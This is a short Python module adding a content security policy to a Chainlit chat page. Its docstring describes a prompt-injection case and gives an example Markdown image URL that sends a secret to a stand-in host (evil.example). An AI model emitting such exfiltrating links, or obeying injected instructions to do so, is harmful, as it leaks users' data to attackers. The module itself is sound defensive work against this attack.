"""Browser-side protections for the chat page.

A prompt injection can make the model write a Markdown image whose URL carries data out
(`![](https://evil.example/?q=SECRET)`): the browser would fetch it the moment the answer renders.
The chat page's content security policy only lets images and media come from the app itself (and
`data:`/`blob:` URLs the page makes), so such an image is never requested; everything else in
Chainlit's page is left as it is.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable

from fastapi import FastAPI, Request, Response

PAGE_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; base-uri 'self'"


def protect_pages(app: FastAPI) -> None:
    """Give every HTML page the app serves the image-and-media content security policy."""

    @app.middleware("http")
    async def content_security_policy(request: Request, call_next: Callable[[Request], Awaitable[Response]]) -> Response:
        response = await call_next(request)
        if response.headers.get("content-type", "").startswith("text/html"):
            response.headers.setdefault("content-security-policy", PAGE_POLICY)
        return response
